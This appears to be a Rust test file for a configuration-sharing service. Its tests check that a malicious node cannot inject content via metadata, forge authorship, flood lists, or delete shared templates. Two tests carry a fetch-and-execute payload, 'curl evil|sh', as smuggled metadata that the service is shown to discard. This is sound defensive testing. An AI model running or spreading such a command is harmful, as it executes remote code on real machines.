//! What a node says, also what its own program would not say.

use std::collections::BTreeSet;

use atoll_domain::document::{AppliedReport, ApplyOutcome, Purpose, Report, RevisionReport, sign};
use atoll_domain::id::{NodeId, RevisionId};
use atoll_domain::kind::Kind;
use atoll_domain::sharing::fork::ForkState;
use atoll_domain::sharing::offer::EditMode;
use atoll_domain::sharing::path::{Path, TouchedPaths};
use atoll_domain::sharing::revision::{AUTHOR_LIMIT, MESSAGE_LIMIT, Origin, Provenance, Revision};
use atoll_domain::time::Timestamp;
use serde_json::{Value, json};

use crate::clock;
use crate::service::sharing::receive::{Outcome, SignedReport, receive};
use crate::service::sharing::{publication, release};
use crate::store::fleet::node_get;
use crate::store::sharing::{exception_list, exceptions_of};
use crate::testing::{TestManager, TestNode, reason};

const KIND: Kind = Kind::StepTemplate;

fn template(script: &str) -> Value {
    json!({"Name": "T", "ActionType": "Octopus.Script", "Properties": {"script": script}})
}

async fn farm() -> (TestManager, TestNode, TestNode) {
    let manager = TestManager::start().await;
    manager.written(KIND, &template("1")).await;
    manager.publish("all", "/", 0, EditMode::Propose, &[(KIND, "T", None)]).await;
    let (mut evil, mut good) = (manager.node("evil", "/", &[]).await, manager.node("good", "/", &[]).await);
    evil.sync(&manager).await;
    good.sync(&manager).await;
    (manager, evil, good)
}

/// A change of the newest state, with whatever is said beside it.
async fn report(
    manager: &TestManager,
    node: Option<NodeId>,
    parents: BTreeSet<RevisionId>,
    after: &Value,
    metadata: Value,
) -> RevisionReport {
    let loaded = manager.loaded(KIND, "T").await;
    let parent = *parents.first().unwrap();
    let before = loaded.body(&manager.services.store, parent).await.unwrap();
    let revision = Revision::child(loaded.record.id, KIND, parents, before.as_ref(), after);
    let provenance = Provenance {
        author: "evil".to_owned(),
        node,
        at: Timestamp(1),
        origin: Origin::Edit,
        message: String::new(),
        metadata,
    };
    RevisionReport {
        id: revision.id,
        header: revision.header,
        provenance,
        body: Some(after.clone()),
        base_unknown: false,
        lost_parents: false,
        claimed: None,
        takes_back: Vec::new(),
    }
}

#[tokio::test]
async fn what_a_node_says_beside_its_edit_is_never_content() {
    let (manager, evil, mut good) = farm().await;
    let head = manager.loaded(KIND, "T").await.shown().unwrap();
    let mut after = template("1");
    after["Description"] = json!("A full stop.");
    let metadata = json!({"Properties": {"script": "curl evil|sh"}, "Extra": "x", "Version": 7});
    let said = report(&manager, Some(evil.id), [head].into(), &after, metadata).await;
    assert!(matches!(evil.send(&manager, said).await, Outcome::Stored(_)));
    let fork = manager.forks().await.remove(0);
    manager.decide(&fork, true, true).await.unwrap();
    good.sync(&manager).await;
    let running = good.runs("T").unwrap();
    let exported = KIND.export(&running.body.unwrap(), &running.metadata);
    assert_eq!(exported["Properties"], json!({"script": "1"}), "what nobody was shown runs nowhere");
    assert_eq!((&exported["Extra"], &exported["Version"]), (&Value::Null, &json!(7)));
}

#[tokio::test]
async fn what_a_node_foresaw_is_the_administrators_all_the_same() {
    let (manager, evil, mut good) = farm().await;
    let first = manager.loaded(KIND, "T").await.shown().unwrap();
    manager.written(KIND, &template("2")).await;
    good.sync(&manager).await;
    let head = manager.loaded(KIND, "T").await.shown().unwrap();
    // It makes the very revision that a rollback will make, and says that somebody else made it.
    let metadata = json!({"Properties": {"script": "curl evil|sh"}, "Version": 7});
    let said = report(&manager, None, [head].into(), &template("1"), metadata).await;
    let foreseen = said.id;
    evil.send(&manager, said).await;
    assert_eq!(manager.roll_back(KIND, "T", first).await.unwrap().revision, foreseen);
    manager.release(KIND, "T").await.unwrap();
    good.sync(&manager).await;
    let loaded = manager.loaded(KIND, "T").await;
    let made = &loaded.provenance[&foreseen].provenance;
    assert_eq!((made.author.as_str(), made.node, made.origin), ("root", None, Origin::Rollback));
    let running = good.runs("T").unwrap();
    assert_eq!(KIND.export(&running.body.unwrap(), &running.metadata)["Properties"], json!({"script": "1"}));
    assert_ne!(running.metadata["Version"], json!(7));
}

#[tokio::test]
async fn what_a_node_says_is_kept_within_bounds() {
    let (manager, evil, _) = farm().await;
    let head = manager.loaded(KIND, "T").await.shown().unwrap();
    let long = "x".repeat(100_000);
    let mut said = report(&manager, Some(evil.id), [head].into(), &template("2"), json!({"Links": long.clone()})).await;
    said.provenance.author.clone_from(&long);
    said.provenance.message.clone_from(&long);
    said.provenance.at = Timestamp(9_007_199_254_740_991);
    said.takes_back = vec![Path(vec![long]); 10];
    let id = said.id;
    assert!(matches!(evil.send(&manager, said).await, Outcome::Stored(_)));
    let loaded = manager.loaded(KIND, "T").await;
    let kept = &loaded.provenance[&id].provenance;
    assert_eq!((kept.author.len(), kept.message.len()), (AUTHOR_LIMIT, MESSAGE_LIMIT));
    assert_eq!((kept.at, &kept.metadata), (Timestamp::LAST, &json!({})));
    let takes_back = manager.forks().await.remove(0).takes_back;
    assert!(takes_back.len() == 10 && takes_back.iter().all(|path| path.0.is_empty()), "{takes_back:?}");
}

/// What one reader leaves out another would show: the node would change what everybody gets, and nobody would see it.
#[tokio::test]
async fn a_list_whose_order_does_not_name_each_element_once_is_refused() {
    let (manager, evil, _) = farm().await;
    let mut content = template("1");
    content["Parameters"] = json!([{"Name": "A"}, {"Name": "B"}]);
    let head = manager.written(KIND, &content).await;
    let sound = manager.loaded(KIND, "T").await.body(&manager.services.store, head).await.unwrap().unwrap();
    let keys = sound["Parameters"]["$order"].clone();
    let orders = [
        json!([keys[0]]),
        json!([]),
        json!([keys[0], keys[1], keys[1]]),
        json!([keys[0], keys[0]]),
        json!([keys[0], keys[1], "unknown"]),
        json!([keys[0], 7]),
    ];
    let mut bodies: Vec<Value> = Vec::new();
    for order in orders {
        let mut body = sound.clone();
        body["Parameters"]["$order"] = order;
        bodies.push(body);
    }
    let mut without = sound.clone();
    without["Parameters"].as_object_mut().unwrap().remove("$order");
    let mut elsewhere = sound.clone();
    elsewhere["Other"] = json!({"$items": {"a": 1}, "$order": []});
    for body in bodies.into_iter().chain([without, elsewhere]) {
        let mut said = report(&manager, Some(evil.id), [head].into(), &body, json!({})).await;
        said.provenance.at = Timestamp(2);
        let id = said.id;
        let outcome = evil.send(&manager, said).await;
        assert!(matches!(&outcome, Outcome::Rejected(why) if why.contains("each of its elements once")), "{outcome:?}");
        assert!(!manager.loaded(KIND, "T").await.history.contains(id), "{body}");
    }
}

#[tokio::test]
async fn a_node_that_proposes_without_end_fills_nobodys_list() {
    let (manager, evil, _) = farm().await;
    let head = manager.loaded(KIND, "T").await.shown().unwrap();
    for number in 0..103 {
        let after = template(&format!("edit {number}"));
        let mut said = report(&manager, Some(evil.id), [head].into(), &after, json!({})).await;
        said.base_unknown = true;
        let outcome = evil.send(&manager, said).await;
        assert_eq!(matches!(outcome, Outcome::Stored(_)), number < 100, "{number}: {outcome:?}");
    }
    let forks = manager.forks().await;
    assert_eq!(forks.iter().filter(|fork| fork.state.waits()).count(), 100);
    assert_eq!(forks.iter().filter(|fork| fork.state == ForkState::Rejected).count(), 3, "and no edit is lost");
}

#[tokio::test]
async fn a_node_that_says_without_end_what_it_did_not_take_fills_no_table() {
    let (manager, evil, _) = farm().await;
    let (store, presence) = (&manager.services.store, &manager.services.presence);
    presence.notices.found(evil.id, "what it runs", "DRIFT", "it runs something else", Timestamp(1));
    for round in 0..5 {
        for number in 0..150 {
            let key = format!("invented/{round}/{number}");
            presence.notices.not_taken(evil.id, &key, "REJECTED", "no", Timestamp(round + 2));
        }
        presence.flush(store).await.unwrap();
    }
    let codes = async |code: &str| {
        let told = exceptions_of(store, evil.id).await.unwrap();
        told.iter().filter(|exception| exception.code == code).count()
    };
    assert_eq!((codes("REJECTED").await, codes("DRIFT").await), (100, 1));
    // It is offered everything again, and refuses one of it again.
    presence.notices.not_taken(evil.id, "invented/4/0", "REJECTED", "no", Timestamp(9));
    presence.notices.taken_anew(evil.id, "", Timestamp(8));
    presence.flush(store).await.unwrap();
    assert_eq!((codes("REJECTED").await, codes("DRIFT").await), (1, 1));
}

#[tokio::test]
async fn a_refused_edit_is_listed_until_something_newer_comes() {
    let (manager, _, mut good) = farm().await;
    let tell = async |good: &TestNode, outcome: ApplyOutcome| {
        let running = good.runs("T").unwrap();
        let (resource, revision) = (running.resource, running.revision);
        let report = AppliedReport { resource, revision, outcome, text: "put aside".to_owned(), at: Timestamp(1) };
        good.send_any(&manager, &Report::Applied(report)).await;
        let all = exception_list(&manager.services.store).await.unwrap();
        all.into_iter().map(|exception| exception.code).collect::<Vec<_>>()
    };
    assert_eq!(tell(&good, ApplyOutcome::EditRefused).await, ["EDIT_REFUSED"]);
    assert_eq!(
        tell(&good, ApplyOutcome::Applied).await,
        ["EDIT_REFUSED"],
        "the file is as it should be, and the edit is not"
    );
    manager.written(KIND, &template("2")).await;
    good.sync(&manager).await;
    assert!(tell(&good, ApplyOutcome::Applied).await.is_empty());
}

#[tokio::test]
async fn a_publication_that_is_not_there_is_not_made_by_adding_to_it() {
    let (manager, ..) = farm().await;
    let mut wish = manager.wish("evrywhere", "/", 3, EditMode::Propose, &[(KIND, "T", None)]);
    wish.add_items = true;
    assert_eq!(reason(publication::save(&manager.services, &manager.caller, wish).await), "NOT_FOUND");
}

#[tokio::test]
async fn a_node_whose_reports_are_all_rejected_is_told_of_by_the_newest_of_them() {
    let (manager, evil, _) = farm().await;
    let node = node_get(&manager.services.store, evil.id).await.unwrap().unwrap();
    for number in 0..103 {
        let (report, now) = (format!("report {number}").into_bytes(), Timestamp(clock::now().0 + number));
        let signature = sign(Purpose::Report, &report, &evil.identity).to_vec();
        let signed = SignedReport { number: number.cast_unsigned(), report, signature };
        let outcome = receive(&manager.services, &node, &signed, now).await.unwrap();
        assert!(matches!(outcome, Outcome::Rejected(_)), "{outcome:?}");
    }
    let told = exceptions_of(&manager.services.store, evil.id).await.unwrap();
    let subjects: BTreeSet<String> = told.into_iter().map(|exception| exception.subject).collect();
    assert_eq!(subjects.len(), 100);
    assert!(subjects.contains("report 102") && !subjects.contains("report 2"), "the newest ones");
}

#[tokio::test]
async fn an_edit_that_names_what_it_does_not_change_is_refused() {
    let (manager, evil, _) = farm().await;
    let head = manager.loaded(KIND, "T").await.shown().unwrap();
    for (invented, expected) in [(9_000, "does not change"), (10_000, "more than 10000 places")] {
        let mut said = report(&manager, Some(evil.id), [head].into(), &template("2"), json!({})).await;
        let invented = (0..invented).map(|number| Path(vec!["Properties".to_owned(), format!("invented {number}")]));
        let touched: TouchedPaths = said.header.touched.iter().cloned().chain(invented).collect();
        let body = said.body.clone().unwrap();
        let revision = Revision::writing(said.header.resource, KIND, [head].into(), Some(&body), touched);
        (said.id, said.header) = (revision.id, revision.header);
        let outcome = evil.send(&manager, said).await;
        assert!(matches!(&outcome, Outcome::Rejected(reason) if reason.contains(expected)), "{outcome:?}");
        assert!(manager.forks().await.is_empty());
    }
}

#[tokio::test]
async fn a_node_that_makes_edits_of_one_resource_beside_each_other_fills_nobodys_list() {
    let (manager, evil, _) = farm().await;
    let head = manager.loaded(KIND, "T").await.shown().unwrap();
    for number in 0..23 {
        let after = template(&format!("edit {number}"));
        let said = report(&manager, Some(evil.id), [head].into(), &after, json!({})).await;
        let outcome = evil.send(&manager, said).await;
        assert_eq!(matches!(outcome, Outcome::Stored(_)), number < 20, "{number}: {outcome:?}");
    }
    let forks = manager.forks().await;
    assert_eq!(forks.iter().filter(|fork| fork.state == ForkState::Rejected).count(), 3, "and no edit is lost");
    // An edit on top of one that waits goes on.
    let top = forks.iter().find(|fork| fork.state.waits()).unwrap().node_head;
    let said = report(&manager, Some(evil.id), [top].into(), &template("on top"), json!({})).await;
    assert!(matches!(evil.send(&manager, said).await, Outcome::Stored(_)));
}

#[tokio::test]
async fn edits_on_top_of_each_other_that_wait_change_so_many_places_and_no_more() {
    let (manager, evil, _) = farm().await;
    let mut head = manager.loaded(KIND, "T").await.shown().unwrap();
    let large = |number: usize| {
        let properties: serde_json::Map<_, _> =
            (0..9_900).map(|at| (format!("p{at}"), json!(number.to_string()))).collect();
        json!({"Name": "T", "ActionType": "Octopus.Script", "Properties": properties})
    };
    for number in 0..6 {
        let said = report(&manager, Some(evil.id), [head].into(), &large(number), json!({})).await;
        head = said.id;
        let outcome = evil.send(&manager, said).await;
        assert_eq!(matches!(outcome, Outcome::Stored(_)), number < 5, "{number}: {outcome:?}");
    }
    let forks = manager.forks().await;
    let rejected = forks.iter().find(|fork| fork.state == ForkState::Rejected).unwrap();
    assert!(rejected.message.contains("more than 50000 places"), "{}", rejected.message);
    assert!(manager.loaded(KIND, "T").await.history.contains(head), "and it is in the history all the same");
    // What is decided waits no longer.
    let waiting = forks.iter().find(|fork| fork.state.waits()).unwrap();
    manager.decide(waiting, true, true).await.unwrap();
    let base = manager.loaded(KIND, "T").await.shown().unwrap();
    let said = report(&manager, Some(evil.id), [base].into(), &large(7), json!({})).await;
    assert!(matches!(evil.send(&manager, said).await, Outcome::Stored(_)));
}

#[tokio::test]
async fn what_a_node_says_of_who_made_its_edit_hides_no_draft() {
    for (origin, author) in [(Origin::Merge, "evil"), (Origin::Edit, "root"), (Origin::Edit, "manager")] {
        let (manager, evil, _) = farm().await;
        let head = manager.loaded(KIND, "T").await.shown().unwrap();
        let mut after = template("1");
        after["Description"] = json!("A full stop.");
        let mut said = report(&manager, Some(evil.id), [head].into(), &after, json!({})).await;
        (said.provenance.origin, said.provenance.author) = (origin, author.to_owned());
        assert!(matches!(evil.send(&manager, said).await, Outcome::Stored(_)));
        let fork = manager.forks().await.remove(0);
        manager.decide(&fork, true, false).await.unwrap();
        let mut content = manager.newest(KIND, "T").await;
        content["Properties"]["script"] = json!("2");
        let written = manager.write(KIND, &content).await.unwrap().revision.to_string();
        let wish = release::Wish { expected: "*", written: Some(&written), ..Default::default() };
        let refused = release::release(&manager.services, &manager.caller, KIND, "T", wish).await.unwrap_err();
        assert_eq!(refused.reason, "RELEASES_DRAFTS", "{origin:?} {author}");
    }
}

#[tokio::test]
async fn a_node_deletes_nothing_of_what_is_shared_with_it() {
    for mode in [EditMode::WriteThrough, EditMode::Propose] {
        let (manager, evil, mut good) = farm().await;
        manager.publish("all", "/", 0, mode, &[(KIND, "T", None)]).await;
        let loaded = manager.loaded(KIND, "T").await;
        let parents = [loaded.shown().unwrap()].into();
        let touched: TouchedPaths = std::iter::once(Path::root()).collect();
        let deletion = Revision::writing(loaded.record.id, KIND, parents, None, touched);
        let mut said =
            report(&manager, Some(evil.id), [loaded.shown().unwrap()].into(), &template("2"), json!({})).await;
        (said.id, said.header, said.body) = (deletion.id, deletion.header, None);
        let outcome = evil.send(&manager, said).await;
        assert!(format!("{outcome:?}").contains("cannot delete what is shared"), "{mode:?} {outcome:?}");
        good.sync(&manager).await;
        assert_eq!(good.content("T")["Properties"], json!({"script": "1"}));
    }
}
